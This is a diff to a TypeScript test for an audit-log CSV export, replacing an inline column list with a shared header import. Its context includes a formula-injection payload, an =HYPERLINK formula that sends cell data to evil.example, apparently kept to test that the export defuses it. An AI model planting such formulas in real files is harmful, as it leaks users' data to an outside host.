@@ -7,6 +7,7 @@ import { parseAuditLogFilter } from '../src/audit/audit-log-filter.js';
 import type { Role } from '../src/auth/roles.js';
 import { createSeeder } from '../src/db/seeder.js';
 import { createTestApp, type TestApp } from './support/test-app.js';
+import { AUDIT_CSV_HEADER } from './support/expected.js';
 
 /**
  * The CSV export of the audit trail: exactly the rows the filter selects (as many as the
@@ -18,37 +19,7 @@ const URL = '/admin/exports/audit-logs.csv';
 const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
 const AWKWARD = 'Ship partials, "as completed"\nSecond line; third, with a comma\r\nand a CRLF';
 
-/** The export's columns as a reader of the file meets them: the readable ones, then the stored ones. */
-const COLUMNS = [
-  'id',
-  'occurred_at',
-  'action',
-  'record_type',
-  'record_title',
-  'field',
-  'old_value',
-  'new_value',
-  'user',
-  'browser',
-  'occurred_at_utc',
-  'action_code',
-  'table_name',
-  'record_id',
-  'field_name',
-  'old_value_stored',
-  'new_value_stored',
-  'actor_kind',
-  'actor_id',
-  'actor_username',
-  'actor_name',
-  'actor_email',
-  'ip_address',
-  'user_agent',
-  'request_id',
-  'approval_id',
-  'change_id',
-  'details',
-];
+const COLUMNS: readonly string[] = AUDIT_CSV_HEADER;
 
 let t: TestApp;
 const agents = {} as Record<Role, TestAgent>;
